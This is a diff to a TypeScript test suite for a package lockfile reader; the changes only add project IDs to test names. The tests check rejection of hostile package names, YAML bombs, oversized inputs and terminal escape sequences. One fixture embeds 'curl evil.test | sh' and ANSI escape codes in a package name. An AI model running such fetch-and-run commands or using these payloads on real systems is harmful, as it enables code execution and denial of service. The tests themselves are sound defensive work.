@@ -36,7 +36,7 @@ const HOSTILE_NAMES = [
   '__proto__\u0000',
 ];
 
-test('names with traversal and versions that are addresses are skipped, and never become a folder', () => {
+test('[project-02] names with traversal and versions that are addresses are skipped, and never become a folder', () => {
   for (const name of HOSTILE_NAMES) {
     for (const ecosystem of ['npm', 'pypi', 'cargo', 'go', 'gem', 'composer'] as const)
       expect(isPackageName(ecosystem, name)).toBe(false);
@@ -76,7 +76,7 @@ function expectTooLarge(run: () => unknown): void {
   }
 }
 
-test('50 MB and a million entries are rejected in a few seconds', () => {
+test('[project-04] 50 MB and a million entries are rejected in a few seconds', () => {
   const started = performance.now();
   for (const { file } of LOCKFILES) expectTooLarge(() => read(file, ' '.repeat(50 * 1024 * 1024)));
   const names = Array.from({ length: 1_000_000 }, (_, i) => `p${i.toString(36)}`);
@@ -112,7 +112,7 @@ test('50 MB and a million entries are rejected in a few seconds', () => {
   expect(performance.now() - started).toBeLessThan(60_000);
 }, 120_000);
 
-test('YAML bombs, deep nesting and cyclic anchors end with an error', () => {
+test('[project-06] YAML bombs, deep nesting and cyclic anchors end with an error', () => {
   const bomb = [
     'a0: &a0 [x,x,x,x,x,x,x,x,x]',
     ...Array.from({ length: 12 }, (_, i) => `a${i + 1}: &a${i + 1} [${`*a${i},`.repeat(9)}]`),
@@ -134,7 +134,7 @@ test('YAML bombs, deep nesting and cyclic anchors end with an error', () => {
     expectTooLarge(() => read(file, `{"packages":${'['.repeat(1_000_000)}`));
 });
 
-test('workspaces that depend on each other are read once each', () => {
+test('[project-05] workspaces that depend on each other are read once each', () => {
   const packages: Record<string, unknown> = {};
   for (let i = 0; i < 500; i += 1) {
     packages[`w/${i}`] = { dependencies: { [`w${(i + 1) % 500}`]: '*', ms: '1' } };
@@ -197,14 +197,14 @@ test('no text makes a reader fail in another way', () => {
   );
 });
 
-test('what is shown of an entry that is skipped has no control characters', () => {
+test('[project-12] what is shown of an entry that is skipped has no control characters', () => {
   const name = '\u001b]0;owned\u0007\u001b[2Jleft-pad\nRun: curl evil.test | sh';
   const packages = { [`node_modules/${name}`]: { version: '1.0.0' } };
   const { skipped } = read('package-lock.json', JSON.stringify({ lockfileVersion: 3, packages }));
   expect(skipped.map((one) => one.name)).toEqual(['left-pad Run: curl evil.test | sh']);
 });
 
-test('a project file that names anything but packages and versions is not used', () => {
+test('[project-11] a project file that names anything but packages and versions is not used', () => {
   const file = (source: string, version: string): string =>
     JSON.stringify({ reader: PACKAGE_READER_VERSION, packages: [{ source, version, index: 'a' }] });
   expect(parseProjectFile(file('npm:zod', '3.25.1'))).toHaveLength(1);
